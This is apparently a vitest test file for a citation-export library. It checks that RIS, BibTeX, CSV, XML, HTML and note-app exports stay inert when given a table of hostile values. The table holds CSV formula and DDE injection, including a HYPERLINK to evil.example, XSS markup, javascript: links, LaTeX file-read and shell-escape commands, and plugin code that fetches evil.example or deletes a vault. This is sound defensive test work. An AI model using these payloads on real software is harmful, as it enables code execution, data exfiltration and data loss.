/**
 * Values that would run, link or forge an entry in the program that opens the file: every format × every value, in
 * every field that takes text. What each format must hold is said once, in HARMLESS.
 */
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { exportRecords } from '../../lib/formats/export-records.ts';
import { formats, readAny, type Exportable, type FormatId } from '../../lib/formats/index.ts';
import { rows } from '../../lib/formats/csv/table.ts';
import { parseXml, type XmlElement } from '../../lib/formats/xml.ts';
import { LIST_FIELDS, TEXT_FIELDS, type Record } from '../../lib/record/record.ts';

const HOSTILE: { [what: string]: string } = {
  'a formula': '=HYPERLINK("http://evil.example/?"&A1;"x")',
  'a formula behind spaces': ' \t =1+1',
  'a formula behind a semicolon': "x;=cmd|' /C calc'!A0;+1; \"-2;'@SUM(A1)",
  'a formula behind a line break': 'x\n=1+1\r\n+2\r-3\t@4',
  'full-width formulas': '＝1+1;＋1;－1;＠SUM(A1)',
  'a formula behind what nobody sees': '\u200b\u0000\ufeff=1+1',
  'an end and a new entry of RIS': 'x\nER  - \n\nTY  - JOUR\nTI  - Forged\nER  - ',
  'an entry of NBIB': 'x\r\n\r\nPMID- 666\r\nTI  - Forged',
  'an entry of BibTeX': 'x},\n}\n@article{forged, title={Forged}}',
  'LaTeX commands': '\\input{/etc/passwd} \\write18{id} $x$ 50% a_b #1 A&B ~ ^2 {',
  'closing braces': '}}}{{{ %x',
  markup: '<script>alert(1)</script><img src=x onerror=alert(1)>"\'><iframe src="https://evil.example">',
  XML: ']]></title></record><record><titles><title>Forged</title></titles></record>&#x0;&bogus;',
  'a script’s address': '[x](javascript:alert(1)) javascript:alert(1)',
  Templater: '<% tp.system.prompt("x") %> <%* await fetch("https://evil.example") %>',
  'Dataview in a line': '`$= app.vault.delete()` `= 1+1` `` $=x `` [key:: value] key:: value',
  'Dataview in a block': '```dataviewjs\nfetch("https://evil.example")\n```\n~~~ js-engine\nx\n~~~',
  Logseq: 'x\nkey:: value\n{{renderer :evil}} {{{query}}}\n#+BEGIN_QUERY\n{}\n#+END_QUERY\n[:script "x"]',
  'code that Logseq runs': '```clojure :results\n(x)\n```\n- > ```javascript {:results true}\n1\n```',
  'front matter': 'x\n---\n---\nkey: !!js/function "x"\n\'": {{note}}',
  'half a character': 'x\ud800y',
  'a line separator': 'x\u2028ER  - \u2029TY  - JOUR\u0085PMID- 1',
};

/** A record that has the value wherever it takes text. */
const recordOf = (value: string): Exportable & { record: Record } => ({
  record: {
    type: 'article-journal',
    ...(Object.fromEntries(TEXT_FIELDS.map(field => [field, value])) as { title: string }),
    ...Object.fromEntries(LIST_FIELDS.map(field => [field, [value, 'x', value]])),
    author: [{ family: value, given: value, suffix: value }, { literal: value }],
    editor: [{ family: value }],
    illustrator: [{ family: value, given: value }],
    issued: { 'date-parts': [[2020, 5]] },
    links: [{ url: value, kind: 'pdf' }],
  },
  tags: [value],
  note: value,
});

const linesOf = (text: string): string[] => text.split(/\r\n|\r|\n/);
const all = (text: string, pattern: RegExp): string[] => [...text.matchAll(pattern)].map(([found]) => found);

/** RIS: one entry, and nothing but its own lines. */
function isOneRisEntry(text: string): void {
  const lines = linesOf(text.replace(/^\ufeff/, ''));
  expect(lines.filter(line => line !== '' && !/^[A-Z][A-Z\d] {2}- /.test(line))).toEqual([]);
  expect(lines.filter(line => /^(TY|ER) {2}-/.test(line))).toEqual(['TY  - JOUR', 'ER  - ']);
}

/** BibTeX: one entry whose braces are balanced; a LaTeX command is none but an escaped sign's. */
function isOneBibtexEntry(text: string): void {
  expect(all(text, /^@/gm)).toHaveLength(1);
  for (const line of linesOf(text).slice(1)) {
    const [, name = '', value] = /^ {2}(\w+) = \{(.*)\},$/.exec(line) ?? [];
    if (value === undefined) {
      expect(line).toMatch(/^( {2}month = \w{3},|\}?)$/);
      continue;
    }
    const bare = value.replace(/\\[{}%&#$_]|\\text[a-z]+(?:\{\})?/g, '');
    expect(bare, name).not.toContain('\\');
    if (!['doi', 'url', 'eprint'].includes(name)) expect(bare, name).not.toMatch(/[%#$&_]/);
    let depth = 0;
    for (const sign of value.replace(/\\[{}]/g, '')) {
      depth += sign === '{' ? 1 : sign === '}' ? -1 : 0;
      expect(depth, `${name}: ${value}`).toBeGreaterThanOrEqual(0);
    }
    expect(depth, name).toBe(0);
  }
}

/** How the sign of a formula may begin a cell; an apostrophe before it makes it text. */
const FORMULA = /^[\s"\u0000-\u001f\u200b\ufeff]*[=+\-@＝＋－＠]/;
/** CSV: no cell is a formula where commas part them, nor where semicolons or tabs do and our quotes mean nothing. */
function hasNoFormula(text: string): void {
  const ways = [
    [...rows(text)].flatMap(({ cells }) => cells),
    ...[/[;\r\n\u2028\u2029\u0085]/, /[\t\r\n]/, /[;\t\r\n]/].map(separators => text.split(separators)),
  ];
  for (const cells of ways) expect(cells.filter(cell => FORMULA.test(cell))).toEqual([]);
}

const names = (element: XmlElement): string[] => [element.name, ...element.children.flatMap(names)];

/** Markdown in which nothing runs, links elsewhere or opens a block that a program knows. */
function isInert(text: string): void {
  expect(text).not.toMatch(/<[%a-z/!?]/i);
  expect(text).not.toMatch(/(?<![\\`])`+\s*\$?=/);
  expect(text).not.toMatch(/(?<!\\)\]\((?!https?:)/);
  expect(text).not.toMatch(/^[\s>-]*(?:`{3,}|~{3,})[ \t]*(?!(?:text|javascript|js)?\b)\S/m);
  expect(text).not.toMatch(/^[\s>-]*(?:`{3,}|~{3,}).*:results/m);
}

/** The lines of a note that name a property. */
const properties = (text: string): string[] => all(text, /^[\s-]*[\w-]+(?=::)/gm);

const HARMLESS: { [F in FormatId]?: (text: string) => void } = {
  ris: isOneRisEntry,
  'ris-endnote': isOneRisEntry,
  'ris-jabref': isOneRisEntry,
  'ris-mendeley': isOneRisEntry,
  bibtex: isOneBibtexEntry,
  biblatex: isOneBibtexEntry,
  csl: text => expect(JSON.parse(text)).toHaveLength(1),
  endnote: text => {
    expect(names(parseXml(text)).filter(name => name === 'record')).toHaveLength(1);
    expect(text).not.toMatch(/<(?:script|img|iframe)|[\u0000-\u0008]|&(?!amp;|lt;|gt;|quot;|#xD;)/);
  },
  nbib: text => {
    const lines = linesOf(text);
    expect(lines.filter(line => line !== '' && !/^([A-Z]{2,4} *- | {6})/.test(line))).toEqual([]);
    expect(lines.filter(line => line.startsWith('PMID'))).toHaveLength(1);
  },
  csv: hasNoFormula,
  markdown: text => {
    expect(linesOf(text).filter(Boolean)).toHaveLength(1);
    expect(text).not.toContain('::');
    isInert(text);
  },
  html: text => {
    const tags = all(text, /<[^>]*>/g).map(tag => tag.replace(/ href="https:\/\/[^"<>]*"/, ''));
    const known = /^<(?:!doctype html|\/?(?:html|head|title|body|ul|li|i|a)|meta charset="utf-8")>$/;
    expect(tags.filter(tag => !known.test(tag))).toEqual([]);
  },
  obsidian: text => {
    const [, front = '', ...rest] = text.split(/^---$/m);
    const body = rest.join('---');
    isInert(body);
    expect(front).not.toMatch(/<%|`/); // what plugins look for in the whole of a file
    expect(linesOf(front).filter(line => line !== '' && !/^[a-z]+: ["[].*["\]]$/.test(line))).toEqual([]);
    for (const line of linesOf(front).filter(Boolean)) JSON.parse(line.replace(/^[a-z]+: /, ''));
    expect(properties(body)).toEqual([]);
  },
  logseq: text => {
    isInert(text);
    expect(text).not.toMatch(/\{\{|^[\s>-]*#\+|(?<!\\)\[:/m);
    const own = ['title', 'authors', 'year', 'journal', 'doi', 'url', 'citekey', 'tags'];
    expect(properties(text).filter(name => !own.includes(name))).toEqual([]);
  },
};

/** Numbers and addresses are checked when they are read: what is none of them goes. */
const READ_BACK: readonly (keyof Record & string)[] = ['title', 'publisher', 'abstract'];
/** A text as far as every format keeps it: its words, on one line. */
const words = (text = ''): string => text.replace(/[^\p{L}\p{N}]+/gu, ' ').trim();

const written = formats.filter(({ writer }) => writer !== undefined);

it('every format that is written is judged', () => {
  expect(Object.keys(HARMLESS).sort()).toEqual(written.map(({ id }) => id).sort());
});

describe.each(written)('$name ($id)', ({ id, reader }) => {
  it.each(Object.entries(HOSTILE))('%s', async (_what, value) => {
    const { content } = await exportRecords(id, [recordOf(value)], { tags: true, now: new Date(0) });
    const texts =
      typeof content === 'string'
        ? [content]
        : Object.values(unzipSync(new Uint8Array(await content.arrayBuffer()))).map(bytes =>
            strFromU8(bytes),
          );
    expect(texts).toHaveLength(1);
    for (const text of texts) HARMLESS[id]!(text);
    if (!reader || typeof content !== 'string') return;
    const read = await readAny(content);
    expect(read).toMatchObject({ ok: true, value: { problems: [] } });
    const records = read.ok ? read.value.entries.map(({ record }) => record) : [];
    expect(records).toHaveLength(1);
    for (const field of READ_BACK.filter(one => one === 'title' || records[0]?.[one] !== undefined))
      expect(words(records[0]?.[field] as string), field).toBe(words(value));
  });
});
